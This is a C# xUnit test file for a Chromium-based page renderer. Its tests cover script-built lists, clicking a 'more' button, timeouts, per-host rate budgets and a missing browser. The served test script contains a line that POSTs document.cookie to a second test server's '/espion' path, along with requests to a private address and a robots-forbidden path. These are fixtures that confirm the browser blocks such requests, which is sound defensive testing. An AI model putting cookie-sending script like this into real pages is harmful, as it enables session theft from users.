using System.Text;
using Microsoft.Extensions.Logging.Abstractions;
using SocialConnect.Catalog.Partners;
using SocialConnect.Ingestion.Fetching;
using SocialConnect.Ingestion.Rendering;
using SocialConnect.Ingestion.Tests.Visits;
using Xunit;

namespace SocialConnect.Ingestion.Tests.Rendering;

/// <summary>A real Chromium on a page that builds its list by script.</summary>
public sealed class PageRendererTests : IAsyncLifetime
{
    private static readonly string Chromium = Environment.GetEnvironmentVariable("CHROMIUM") ?? "/usr/bin/chromium";

    private PartnerSite _site = null!;
    private PartnerSite _other = null!;

    public async Task InitializeAsync()
    {
        _site = await PartnerSite.StartAsync();
        _other = await PartnerSite.StartAsync();
        _site["/"] = $$"""
            <main><ul id="liste"></ul><button id="plus">Voir plus</button></main>
            <img src="/image.png"><script src="/app.js"></script>
            """;
        _site.Answer("/app.js", "text/javascript", Encoding.UTF8.GetBytes($$"""
            let page = 0;
            async function more() {
              page++;
              const found = await (await fetch('/donnees?p=' + page)).json();
              for (const one of found) { const li = document.createElement('li'); li.className = 'projet'; li.innerHTML = '<a href="/' + one + '">Projet ' + one + '</a>'; document.getElementById('liste').append(li); }
              if (found.length < 2) document.getElementById('plus').remove();
            }
            document.getElementById('plus').addEventListener('click', more);
            more();
            fetch('http://10.0.0.1/secret').catch(() => 0);
            fetch('{{_other.At("/espion")}}', { method: 'POST', body: document.cookie }).catch(() => 0);
            fetch('/prive').catch(() => 0);
            new WebSocket('ws://{{_other.Address.Authority}}/ws');
            """));
        foreach (var (page, found) in new[] { (1, "[1, 2]"), (2, "[3, 4]"), (3, "[5]") })
        {
            _site.Answer($"/donnees?p={page}", "application/json", Encoding.UTF8.GetBytes(found));
        }

        _site.Answer("/robots.txt", "text/plain", "User-agent: *\nDisallow: /prive"u8.ToArray());
    }

    public async Task DisposeAsync()
    {
        await _site.DisposeAsync();
        await _other.DisposeAsync();
    }

    [SkippableFact]
    public async Task A_list_that_a_script_builds_is_read_and_its_button_clicked_until_nothing_more_comes()
    {
        await using var renderer = Renderer();

        var page = await RenderAsync(renderer, new RenderRecipe { WaitFor = "li.projet", ClickMore = "#plus", Times = 10 });

        Assert.Equal(FetchOutcome.Fetched, page.Outcome);
        var html = Encoding.UTF8.GetString(page.Body);
        Assert.All(Enumerable.Range(1, 5), number => Assert.Contains($"Projet {number}", html, StringComparison.Ordinal));
    }

    [SkippableFact]
    public async Task The_browser_reaches_nothing_by_itself()
    {
        await using var renderer = Renderer();

        await RenderAsync(renderer, new RenderRecipe { WaitFor = "li.projet" });

        // Posts, sockets, pictures and what robots.txt forbids are not asked for; the private address is refused by the guard of the fetcher.
        Assert.Empty(_other.Asked);
        Assert.DoesNotContain("/prive", _site.Asked);
        Assert.DoesNotContain("/image.png", _site.Asked);
    }

    [SkippableFact]
    public async Task What_never_appears_is_named()
    {
        await using var renderer = Renderer();

        var page = await RenderAsync(renderer, new RenderRecipe { WaitFor = ".jamais", Time = TimeSpan.FromSeconds(5) });

        Assert.Equal(FetchOutcome.Failed, page.Outcome);
        Assert.NotNull(page.Message);
    }

    [SkippableFact]
    public async Task A_host_has_a_budget()
    {
        await using var renderer = Renderer(perHour: 1);

        var first = await RenderAsync(renderer, new RenderRecipe { WaitFor = "li.projet" });
        var second = await RenderAsync(renderer, new RenderRecipe { WaitFor = "li.projet" });

        Assert.Equal(FetchOutcome.Fetched, first.Outcome);
        Assert.Equal(FetchOutcome.Failed, second.Outcome);
        Assert.NotNull(second.RetryAfter);
    }

    [Fact]
    public async Task Without_a_browser_the_recipe_is_told_so()
    {
        await using var renderer = new PageRenderer(Microsoft.Extensions.Options.Options.Create(new RenderingOptions()), TimeProvider.System, NullLogger<PageRenderer>.Instance);

        var page = await RenderAsync(renderer, new RenderRecipe());

        Assert.Equal(FetchOutcome.Refused, page.Outcome);
        Assert.Contains("navigateur", page.Message);
    }

    private async Task<FetchedPage> RenderAsync(PageRenderer renderer, RenderRecipe render)
    {
        using var fetcher = new PageFetcher(Microsoft.Extensions.Options.Options.Create(Collecting.Quick), TimeProvider.System, renderer: renderer);
        return await fetcher.FetchAsync(new PageRequest(_site.Address) { Render = render }, default);
    }

    private static PageRenderer Renderer(int perHour = 200)
    {
        Skip.IfNot(File.Exists(Chromium), $"Rendering is tested with Chromium at {Chromium}, or where CHROMIUM says.");
        return new(Microsoft.Extensions.Options.Options.Create(new RenderingOptions { Executable = Chromium, PagesPerHostAndHour = perHour }), TimeProvider.System, NullLogger<PageRenderer>.Instance);
    }
}
